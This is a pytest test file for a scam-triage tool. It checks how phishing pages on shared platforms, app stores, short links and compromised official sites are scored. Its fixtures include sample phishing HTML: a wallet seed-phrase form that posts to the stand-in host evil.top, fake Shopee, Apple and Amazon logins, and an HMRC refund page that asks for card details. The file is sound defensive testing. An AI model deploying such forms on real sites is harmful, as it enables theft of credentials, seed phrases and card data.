"""Whose a name or a page is: the platform's or its tenant's, the firm's or the word's, at home or abroad."""

from typing import Any

import pytest
from msgspec.structs import replace

from scamtriage.assess import Rules, assess
from scamtriage.knowledge.hosts import infrastructure
from scamtriage.knowledge.small_tables import small_tables
from scamtriage.records.assessment import Assessment, Verdict
from scamtriage.records.evidence import Dossier, Mode
from scamtriage.records.target import Target
from scamtriage.render import disclosure
from scamtriage.targets.parse import parse_target
from tests.judgement.sites import dossier, sites

RULES = Rules.load()
SEED_PHRASE = (
    "<title>Wallet restore</title><h1>Restore your wallet</h1><p>Enter your 12 word seed phrase to synchronise your wallet and restore "
    'access to your funds.</p><form action="https://evil.top/x" method="post"><textarea name="seed" placeholder="recovery phrase">'
    "</textarea></form>"
)

LOAN_SCAM: str = next(site["html"] for site in sites("004") if site["id"] == "en-ph-loan-apk")


def row(url: str, html: str, rules: Rules = RULES, **site: Any) -> Assessment:
    target = parse_target(url)
    assert isinstance(target, Target)
    found = dossier({"host": target.host, "html": html, "age_days": 6_000, "mx": True, **site})
    judged = assess(replace(found, target=target), rules)
    assert isinstance(judged, Assessment)
    return judged


def nats(judged: Assessment) -> dict[str, float]:
    return {c.reading.signal: c.log_odds for c in judged.contributions}


TENANTS = [
    "https://sites.google.com/view/wallet-restore",
    "https://docs.google.com/forms/d/e/x/viewform",
    "https://forms.office.com/r/abc",
    "https://discord.gg/abc",
    "https://user.qzone.qq.com/123",
    "https://m.facebook.com/restore",
    "https://telegra.ph/restore",
    "https://linktr.ee/restore",
    "https://play.google.com/store/apps/details?id=com.restore.wallet",
    "https://apps.apple.com/th/app/wallet-restore/id1234567890",
    "https://testflight.apple.com/join/AbCdEfGh",
    "https://bom.so/restore",
]


@pytest.mark.parametrize("url", TENANTS)
def test_what_a_tenant_does_is_judged_as_anywhere_else_and_the_platform_is_never_blocked(url: str) -> None:
    judged = row(url, SEED_PHRASE)
    elsewhere = row("https://restore.blogspot.com/", SEED_PHRASE)
    assert min(judged.verdict.rank, elsewhere.verdict.rank) >= Verdict.LIKELY_SCAM.rank
    assert judged.log_odds == pytest.approx(elsewhere.log_odds, abs=1)  # the name has its own few tenths of a nat
    assert "official" not in judged.states
    assert not [signal for signal in nats(judged) if signal.startswith(("ben-", "rep-age", "name-"))]
    assert not disclosure.host_can_be_blocked(judged)
    assert disclosure.registration(judged) is None
    assert all(route.kind != "registrar" for route in judged.report_to)


LOG_IN = (
    "<title>Shopee Thailand | ซื้อขายผ่านมือถือ</title><meta property='og:site_name' content='Shopee'><h1>Shopee</h1><p>ช้อปออนไลน์ ส่งฟรี โค้ดลด</p>"
    "<form action='/login' method=post><input name=login placeholder='เบอร์โทร / อีเมล'><input type=password name=p></form><p>© 2026 Shopee"
)


@pytest.mark.parametrize(("landing", "accused"), [("shopee.co.th", False), ("shopee-login.co.th", True)])
def test_a_short_link_to_a_branch_whose_pages_bear_the_name_of_the_house(landing: str, accused: bool) -> None:
    target = parse_target("https://bit.ly/3AbCdEf")
    assert isinstance(target, Target)
    found = dossier({"host": landing, "html": LOG_IN, "age_days": 6_000})
    judged = assess(replace(found, target=target), RULES)
    assert isinstance(judged, Assessment) and judged.landed == landing
    assert ("content-brand-mismatch" in nats(judged)) is accused
    assert (judged.verdict.rank >= Verdict.SUSPICIOUS.rank) is accused


LISTED = (
    "<title>K PLUS</title><h1>K PLUS</h1><p>KASIKORNBANK PCL. แอปธนาคารกสิกรไทย โอนเงิน เติมเงิน จ่ายบิล"
    " สมัครสินเชื่อ ลงทุนกองทุน ลงทะเบียนง่าย ๆ ด้วยบัตรประชาชน"
    " ติดต่อ 02-888-8888</p><button>ติดตั้ง</button>"
)


@pytest.mark.parametrize("url", [url for url in TENANTS if infrastructure.is_app_store(url.split("/")[2])])
def test_an_app_in_a_store_is_neither_accused_nor_acquitted_by_its_words(url: str) -> None:
    assert row("https://kplus-app.blogspot.com/", LISTED).verdict.rank >= Verdict.SUSPICIOUS.rank
    judged = row(url, LISTED)
    assert judged.verdict is Verdict.UNDETERMINED and "store-page" in judged.held_by and "needs-human" in judged.states
    assert "official" not in judged.states and not disclosure.host_can_be_blocked(judged)
    garden = "<h1>Suan Garden</h1><p>Water your orchids twice a week. The app draws when, and works without a network.</p>" * 3
    assert row(url, garden).verdict is not Verdict.LIKELY_BENIGN


@pytest.mark.parametrize(
    ("url", "landing", "held"),
    [
        ("https://bom.so/restore", "apps.apple.com", True),
        ("https://apps.apple.com/th/app/x/id1", "kplus-app.blogspot.com", False),
        ("https://bom.so/restore", "kplus-app.blogspot.com", False),
        ("https://play.google.com.kplus.app/", "play.google.com.kplus.app", False),
        ("https://kplus-app.top/", "play.google.com", False),
    ],
)
def test_the_page_of_a_store_is_what_is_shown_there_by_itself_or_by_a_short_link(url: str, landing: str, held: bool) -> None:
    target = parse_target(url)
    assert isinstance(target, Target)
    judged = assess(replace(dossier({"host": landing, "html": LISTED, "age_days": 20}), target=target), RULES)
    assert isinstance(judged, Assessment)
    assert ("store-page" in judged.held_by, judged.verdict.rank >= Verdict.SUSPICIOUS.rank) == (held, not held)


def test_a_box_for_letters_makes_no_site_of_a_stores_page_and_one_for_a_password_does() -> None:
    letters, secret = (f"{LISTED}<form><input type={kind} name={kind}></form>" for kind in ("email", "password"))
    assert "store-page" in row("https://apkpure.com/x/y", letters).held_by
    assert "store-page" not in row("https://apkpure.com/x/y", secret).held_by


def test_every_app_store_is_a_shared_name() -> None:
    assert all(infrastructure.is_tenants(host) for host in small_tables().app_stores.domains)


@pytest.mark.parametrize("url", TENANTS)
def test_of_a_tenants_address_alone_nothing_is_known(url: str) -> None:
    target = parse_target(url)
    judged = assess(Dossier(line=1, input=url, target=target, mode=Mode.OFFLINE, evidence={}), RULES)
    assert isinstance(judged, Assessment)
    assert judged.verdict is Verdict.NO_FINDING
    assert not judged.contributions


@pytest.mark.parametrize(
    "url",
    [
        "https://www.facebook.com/",
        "https://facebook.com/login.php?next=x",
        "https://accounts.google.com/signin/v2",
        "https://business.facebook.com/overview",
        "https://www.microsoft.com/en-us/windows",
        "https://www.apple.com/app-store/",
        "https://apps.apple.com/",
        "https://zoom.us/download",
        "https://shopee.co.th/login",
    ],
)
def test_the_platforms_own_pages_stay_official(url: str) -> None:
    assert "official" in row(url, "<title>Facebook</title><h1>Facebook</h1><form><input type=password></form>").states


def test_the_platforms_name_in_its_own_frame_is_no_claim_of_the_tenant() -> None:
    html = '<title>The bakery - Facebook</title><meta property="og:site_name" content="Facebook"><p>Bread and cakes since 1998.</p>'
    html += "<form action=/login><input type=password></form><p>Facebook © 2026"
    found = nats(row("https://www.facebook.com/thebakery", html))
    assert not found.keys() & {"content-brand-mismatch", "name-brand-embedded", "combo-brand-ask"}


def test_what_stands_left_of_a_lent_name_still_speaks() -> None:
    assert "name-brand-embedded" in nats(row("https://evil-maybank.my.canva.site/x", SEED_PHRASE))


@pytest.mark.parametrize(
    ("host", "theirs"),
    [
        ("sites.google.com", True),
        ("mail.google.com", False),
        ("www.facebook.com", True),
        ("developers.facebook.com", False),
        ("a.developers.facebook.com", False),
        ("bit.ly", True),
        ("linktr.ee", True),
        ("maybank2u.com.my", False),
    ],
)
def test_where_tenants_lie_is_told_from_where_the_service_speaks(host: str, theirs: bool) -> None:
    assert infrastructure.is_tenants(host) is theirs


LOGIN = '<form action="/login"><input name="user"><input type="password" name="pass"></form>'


@pytest.mark.parametrize(
    ("host", "words"),
    [
        ("clearviewdoors.co.uk", "Clearview Windows and Doors"),
        ("bathroomaids.co.uk", "Grab rails for bathrooms"),
        ("oldorchardfarm.com", "Apple picking"),
        ("iquitostours.com", "Amazon river cruises"),
        ("klinikdesa.com", "Temu janji klinik"),
        ("brickhomes.com", "Adobe houses"),
        ("smithandnorton.co.uk", "Norton plumbers"),
    ],
)
def test_a_word_of_everyday_is_nobodys_name_on_a_page(host: str, words: str) -> None:
    found = nats(row(host, f"<title>{words}</title><h1>{words}</h1><p>Members log in to book.</p>{LOGIN}"))
    assert not found.keys() & {"content-brand-mismatch", "combo-brand-ask", "name-brand-embedded"}


@pytest.mark.parametrize(
    ("host", "words"),
    [
        ("support-desk.top", "<title>Windows Defender</title><h1>Windows is locked</h1>"),
        ("id-check.top", "<title>Apple</title><h1>Apple</h1><p>Sign in with your Apple ID."),
        ("apple-verify.top", "<title>Apple</title><h1>Apple</h1>"),
        ("arnazon-check.top", "<title>Amazon</title><h1>Amazon</h1>"),
    ],
)
def test_it_is_beside_another_name_of_the_firm_or_in_a_host_that_imitates_it(host: str, words: str) -> None:
    assert "content-brand-mismatch" in nats(row(host, words + LOGIN))


ABROAD = {"contact-phone-country-mismatch"}


@pytest.mark.parametrize(
    ("host", "name", "number", "language"),
    [
        ("uob-th-help.com", "UOB Thailand", "+66 2 285 1555", "en"),
        ("uob-help.com", "UOB", "+66 2 285 1555", "th"),
        ("maybank-help.vn", "Maybank", "+84 24 3936 1234", "en"),
        ("sc-help.com", "Standard Chartered Hong Kong", "+852 2886 8868", "en"),
        ("uob-help.com", "UOB", "+65 6222 2121", "en"),
    ],
)
def test_a_regional_bank_is_at_home_where_its_branch_is_named(host: str, name: str, number: str, language: str) -> None:
    words = {
        "en": "Log in with your password to see your account. Call our office.",
        "th": "เข้าสู่ระบบด้วยรหัสผ่านเพื่อดูบัญชีของคุณ ติดต่อสอบถามข้อมูลเพิ่มเติมได้ที่สำนักงาน โทร",
    }
    judged = row(host, f"<html lang={language}><title>{name}</title><h1>{name}</h1><p>{words[language]} {number}</p>{LOGIN}")
    assert not nats(judged).keys() & ABROAD
    assert not [c for c in judged.contributions if "foreign" in c.because]
    assert "cross-border" not in judged.flags


@pytest.mark.parametrize(
    ("host", "name", "number"),
    [
        ("uob-help.com", "UOB Thailand", "+84 24 3936 1234"),
        ("uob-help.com", "UOB", "+66 2 285 1555"),
        ("kbank-help.com", "Bank Rakyat Thailand", "+66 2 285 1555"),
    ],
)
def test_elsewhere_its_number_is_foreign(host: str, name: str, number: str) -> None:
    judged = row(
        host, f"<title>{name}</title><h1>{name}: your account</h1><p>Log in to see your account. Call our office. {number}</p>{LOGIN}"
    )
    assert nats(judged).keys() >= ABROAD


def test_whose_refund_it_is_says_the_kind_whatever_its_words_resemble() -> None:
    html = (
        '<title>HMRC Tax Refund</title><img class=logo alt="HMRC logo"><h1>HMRC tax refund line</h1><p>You are owed a refund of £412.30. '
        "To claim your refund enter your card details and date of birth, or call us.</p>"
        '<form><input name="card" placeholder="Card number"><input name="cvv" placeholder="CVV"></form>'
    )
    judged = row("hmrc-refund-line.co", html, age_days=12)
    assert "gov-police" in [t.type for t in judged.scam_types] and "romance" not in [t.type for t in judged.scam_types]
    assert judged.urgency == "high"


@pytest.mark.parametrize("host", ["qantasairways-customer-service.org", "lionair-refund.com"])
def test_who_imitates_an_airline_is_a_fake_desk(host: str) -> None:
    assert [t.type for t in row(host, "<title>Flights</title><p>Change or cancel your flight.</p>", age_days=12).scam_types] == [
        "fake-customer-care"
    ]


@pytest.mark.parametrize("term", ["飆股群組", "投顧老師", "리딩방"])
def test_groups_for_stock_tips_are_those_of_false_advisers(term: str) -> None:
    rows = _rows(term)
    kinds = {m.name for meanings in RULES.tables.vocabulary.meanings for m in meanings if m.kind == "lexicon" and m.row in rows}
    assert kinds == {"adviser-clone"}


def _rows(term: str) -> set[int]:
    words = RULES.tables.vocabulary
    found = zip(words.matcher.patterns, words.meanings, strict=True)
    return {m.row for pattern, meanings in found if pattern.expression == term for m in meanings if m.kind == "lexicon"}


@pytest.mark.parametrize(
    ("number", "kind"),
    [
        ("0905 123 4567", "a premium-rate number"),
        ("+44 70 1234 5678", "a personal number"),
        ("+44 56 1234 5678", "an internet telephone number"),
        ("+44 7400 123456", "a mobile number"),
        ("+66 2 285 1555", "a foreign number"),
    ],
)
def test_the_number_of_an_alleged_office_is_called_what_it_is(number: str, kind: str) -> None:
    html = f"<html lang=en-GB><title>HMRC Tax Refund</title><h1>HMRC refund line</h1><p>You are owed a tax refund. To claim, call {number}"
    judged = row("hmrc-refund-line.co.uk", html + '<form><input name="card" placeholder="Card number"></form>')
    [said] = [c.because for c in judged.contributions if c.reading.signal == "contact-authority-foreign-phone"]
    assert f"gives {kind}:" in said
    assert "shows fixed line" not in str([c.because for c in judged.contributions if kind != "a foreign number"])


@pytest.mark.parametrize("number", ["1900 1234", "+84 1900 545413"])
def test_the_service_line_of_a_vietnamese_bank_is_no_private_number(number: str) -> None:
    html = f"<html lang=vi><title>Vietcombank</title><h1>Vietcombank</h1><p>Đăng nhập để xem tài khoản. Tổng đài hỗ trợ: {number}</p>"
    assert "contact-authority-foreign-phone" not in nats(row("vietcombank-help.com", html + LOGIN))


BODIES = (
    *("警視庁", "検察庁", "ゆうちょ銀行", "りそな銀行", "PayPay", "東京電力", "イオンカード", "국세청", "우체국택배", "농협은행"),
    *("우리은행", "하나은행", "Kejaksaan", "PERKESO", "กรมการขนส่งทางบก", "香港海關", "EPFO", "FASTag", "DVLA", "Centrelink"),
)


RENAMED = (
    *("ศูนย์รับแจ้งความออนไลน์ สำนักงานตำรวจแห่งชาติ", "กองบังคับการปราบปราม", "กรมการจัดหางาน", "กยศ. กองทุนเงินให้กู้ยืมเพื่อการศึกษา"),
    *("Ngân hàng Nhà nước Việt Nam", "Cục Thuế", "Cục Cảnh sát giao thông", "Viện kiểm sát nhân dân tối cao", "Bộ Tài chính"),
    *("Tòa án nhân dân", "Korlantas Polri - ETLE", "Komisi Pemberantasan Korupsi", "Mahkamah Agung RI", "Tabung Haji"),
    *("Direktorat Jenderal Imigrasi", "Kementerian Ketenagakerjaan", "国家医疗保障局", "交管12123", "学信网", "国家电网"),
    *("Toà án nhân dân tối cao", "Giao Hàng Nhanh", "Thế Giới Di Động", "MBBank", "VNPT", "Kerry Express", "Geek Squad", "Tin nhiem mang"),
    *("中国人民银行征信中心", "強積金管理局", "Home Credit Việt Nam", "Vietlott", "LinkAja", "J&T Express Vietnam", "CIMB Bank"),
)
"""Under the names that they bear today, and in full."""


@pytest.mark.parametrize("body", [*RENAMED, *BODIES, "Cơ quan bảo hiểm xã hội"])
def test_who_speaks_as_one_of_these_is_seen_to(body: str) -> None:
    found = nats(row("check-office.top", f"<title>{body}</title><h1>{body}</h1>{LOGIN}", age_days=12))
    assert found.keys() & {"content-claims-authority", "content-brand-mismatch"}


@pytest.mark.parametrize(
    ("host", "hard"),
    [
        ("www.perkeso.gov.my", True),
        ("hometax.go.kr", True),
        ("www.wooribank.com", False),
        ("paypay.ne.jp", False),
        ("www.kpk.go.id", True),
        ("122.gov.cn", True),
        ("www.chsi.com.cn", False),
        ("www.maybank2u.com.sg", False),
    ],
)
def test_their_own_names_are_theirs_and_stop_hard_only_where_a_registry_vouches(host: str, hard: bool) -> None:
    target = parse_target(host)
    assert isinstance(target, Target)
    brand = RULES.tables.organisations[RULES.tables.owners_of(target)[0]]
    assert (target.registrable in brand.hard) is hard


@pytest.mark.parametrize("words", ["Kế toán và bảo hiểm xã hội", "우체국 앞 꽃집"])
def test_a_common_word_in_their_names_claims_nothing(words: str) -> None:
    found = nats(row("hoa-shop.com", f"<title>{words}</title><h1>{words}</h1>{LOGIN}"))
    assert not found.keys() & {"content-claims-authority", "content-brand-mismatch"}


@pytest.mark.parametrize(
    ("host", "posts_to", "foreign"),
    [
        ("restore.blogspot.com", "taker.blogspot.com", True),
        ("restore.workers.dev", "taker.workers.dev", True),
        ("restore.com.my", "taker.com.my", True),
        ("www.restore.workers.dev", "api.restore.workers.dev", False),
        ("www.restore.com.my", "api.restore.com.my", False),
        ("restore.com", "pay.stripe.com", False),
    ],
)
def test_what_two_tenants_or_a_country_share_makes_them_no_one_site(host: str, posts_to: str, foreign: bool) -> None:
    field = "<input type=password name=p>"
    html = f'<title>Log in</title><p>Log in to your account.</p><form action="https://{posts_to}/x" method=post>{field}</form>'
    assert ("http-form-foreign-post" in nats(row(f"https://{host}/", html))) is foreign


def test_a_row_of_ours_that_nothing_confirms_whitewashes_nobody() -> None:
    confirmed, alone = row("bcel.com.la", LOAN_SCAM), row("ghtk.vn", LOAN_SCAM)
    assert confirmed.verdict is Verdict.UNDETERMINED and "compromised-site" in confirmed.states
    assert alone.verdict.rank >= Verdict.SUSPICIOUS.rank


@pytest.mark.parametrize("host", ["kasikornbank.com", "www.rmp.gov.my"])
def test_an_official_name_is_no_alibi_for_what_stands_on_it(host: str) -> None:
    judged = row(f"https://{host}/loan", LOAN_SCAM)
    assert row("https://brightriverside.com/loan", LOAN_SCAM).verdict is Verdict.NEAR_CERTAIN
    assert judged.verdict is Verdict.UNDETERMINED
    assert {"compromised-site", "needs-human", "official"} <= set(judged.states)
    assert "content-nothing-asked" not in nats(judged)


@pytest.mark.parametrize("host", ["kasikornbank.com", "our-credit-union-lampang.com"])
def test_a_log_in_deep_in_an_old_site_is_nobodys_break_in(host: str) -> None:
    html = "<title>Log in</title><h1>Online banking</h1><form><input name=user placeholder='User ID'><input type=password></form>"
    html += "<p>Never share your password with anyone. Branches and cash machines, careers, privacy. 400 Main Road, 10400. Tel. 02-888-8888"
    judged = row(f"https://{host}/en/personal/banking/login.html", html)
    assert (judged.verdict, "compromised-site" in judged.states) == (Verdict.LIKELY_BENIGN, False)


@pytest.mark.parametrize("host", ["library.edu.kh", "council.gov.lk", "mairie.gouv.fr", "savings.bank"])
def test_under_every_suffix_for_checked_bodies_a_scam_is_another_hands(host: str) -> None:
    judged = row(f"https://{host}/", LOAN_SCAM)
    assert judged.verdict is Verdict.UNDETERMINED
    assert {"compromised-site", "needs-human"} <= set(judged.states)


def test_what_protects_a_name_is_no_number_that_a_desk_refits() -> None:
    own = replace(RULES.model, weights={"ben-restricted-suffix": -2.4})
    judged = row("https://library.univ.edu/", LOAN_SCAM, Rules.of(RULES.catalog, model=own))
    assert judged.verdict is Verdict.UNDETERMINED
    assert {"compromised-site", "needs-human"} <= set(judged.states)
